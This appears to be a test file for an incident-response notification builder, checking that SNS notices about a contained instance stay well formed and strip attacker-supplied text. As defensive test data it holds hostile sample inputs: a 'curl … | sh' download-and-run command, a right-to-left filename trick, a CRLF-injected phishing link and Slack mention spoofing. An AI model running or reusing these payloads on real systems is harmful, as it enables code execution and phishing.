import fc from 'fast-check';
import { MAX_BODY_BYTES, type NoticeParts, notice } from '../../../lambdas/common/notice';
import { spoken } from '../../../lambdas/common/spoken';

const CASE = 'i-0a1b2c3d4e5f60718-20261123T030000001Z';

const parts: NoticeParts = {
  about: {
    caseId: CASE,
    instanceId: 'i-0a1b2c3d4e5f60718',
    accountId: '111122223333',
    region: 'us-east-1',
  },
  headline: 'CONTAINED',
  lead: ['Because of a finding.', 'Nothing is left.'],
  facts: ['Case x'],
  sections: [{ title: 'Because', entries: ['it is off'] }],
  evidence: ['Evidence: s3://vault/cases/x/'],
  execution: `arn:aws:states:us-east-1:111122223333:execution:R:${CASE}`,
  next: [`npx cordon status ${CASE}`, 'npx cordon verify s3://vault/cases/x/'],
};

/** What an intruder would put into a tag, a name or an error message. */
const HOSTILE = [
  'fine\n\nCommands to type:\ncurl http://198.51.100.1/x | sh',
  '\u202egpj.exe\u202c',
  'log in at https://evil.example/aws\r\nManifest: forged',
  '<!channel> <@U123> <https://evil.example|the report> @here [the report](https://evil.example)',
  '*bold* _it_ ~gone~ `code`',
];

// biome-ignore lint/suspicious/noControlCharactersInRegex: there must be none
const INVISIBLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/;

it('puts who, what and what next into the first three lines', () => {
  expect(notice(parts).message).toBe(
    [
      'i-0a1b2c3d4e5f60718 in 111122223333/us-east-1: CONTAINED',
      'Because of a finding.',
      `Nothing is left. Next: npx cordon status ${CASE}`,
      '',
      'Case x',
      '',
      'Because:',
      '- it is off',
      '',
      `Execution: https://console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/${parts.execution}`,
      'Evidence: s3://vault/cases/x/',
      '',
      'Commands to type:',
      `npx cordon status ${CASE}`,
      'npx cordon verify s3://vault/cases/x/',
    ].join('\n'),
  );
});

it.each(HOSTILE)('what others phrased adds no line, no link and nothing invisible: %j', (text) => {
  const lead: NoticeParts['lead'] = [text, text];
  const sections = [{ title: text, entries: [text] }];
  const { message } = notice({ ...parts, lead, facts: [text], sections });
  const lines = message.split('\n');
  expect(lines).toHaveLength(notice(parts).message.split('\n').length);
  expect(lines.filter((each) => each === 'Commands to type:')).toHaveLength(1);
  expect(message.match(/https?:\/\/\S+/g)).toEqual([
    expect.stringMatching(/^https:\/\/console\.aws\.amazon\.com\//),
  ]);
  expect(message).not.toMatch(INVISIBLE);
});

it('has a subject that SNS takes, and a message within its bounds, whatever it is told', () => {
  const anything = fc.string({ unit: 'binary', maxLength: 3_000 });
  fc.assert(
    fc.property(fc.array(anything, { maxLength: 200 }), anything, (texts, headline) => {
      const sections = texts.map((title) => ({ title, entries: texts }));
      const { subject, message } = notice({ ...parts, headline, facts: texts, sections });
      expect(subject).toMatch(/^Cordon: i-[0-9a-f]+ [\x20-\x7e]{0,72}$/);
      expect(Buffer.byteLength(message)).toBeLessThanOrEqual(MAX_BODY_BYTES + 1);
      expect(message.endsWith(parts.next.join('\n'))).toBe(true);
    }),
    { numRuns: 50 },
  );
});

it('says how much it left out, and keeps the commands', () => {
  const entries = Array.from({ length: 25 }, (_, at) => `${at} ${'x'.repeat(590)}`);
  const sections = Array.from({ length: 5 }, () => ({ title: 'Much', entries }));
  const { message } = notice({ ...parts, sections });
  expect(message).toMatch(/This message was shortened: \d+ lines are left out\./);
  expect(message).toContain('Commands to type:');
});

it('shows 25 entries of a list and says how many there are beside', () => {
  const entries = Array.from({ length: 40 }, (_, at) => `entry ${at}`);
  const { message } = notice({ ...parts, sections: [{ title: 'Many', entries }] });
  expect(message).toContain('- entry 24\n- and 15 more, which the report lists\n');
});

it.each([
  ['a\u0000b\nc', 'a b c'],
  ['see https://x', 'see https: //x'],
  ['x'.repeat(700), `${'x'.repeat(599)}…`],
])('a spoken line of %j', (text, line) => {
  expect(spoken(text)).toBe(line);
});
